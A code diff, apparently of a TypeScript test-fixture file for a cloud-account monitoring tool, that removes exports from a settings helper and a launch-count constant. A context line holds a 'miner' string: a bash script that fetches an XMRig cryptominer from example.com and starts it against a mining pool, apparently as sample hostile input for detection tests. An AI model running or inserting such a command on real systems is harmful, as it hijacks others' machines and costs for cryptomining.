@@ -13,7 +13,7 @@ const day = 24 * 60 * minute;
 const miner =
   '#!/bin/bash\ncurl -sL https://example.com/xmrig.tgz | tar xz\n./xmrig -o stratum+tcp://pool:3333 --donate-level 1\n';
 
-export const settings = (changes: Partial<Settings> = {}): Settings => ({
+const settings = (changes: Partial<Settings> = {}): Settings => ({
   alertAt: 'notice',
   language: 'en',
   budget: { usdPerHour: 3 },
@@ -163,7 +163,7 @@ export const scheduled = (title: string, accounts: number): Scenario =>
   );
 
 /** Launches of an account on an ordinary day, made by Auto Scaling. */
-export const launchesADay = 5;
+const launchesADay = 5;
 
 /** A day on which Auto Scaling launches a few instances in every account, and nobody else does. */
 export function quietDay(title: string, accounts: number, isAllowed: boolean): Scenario {
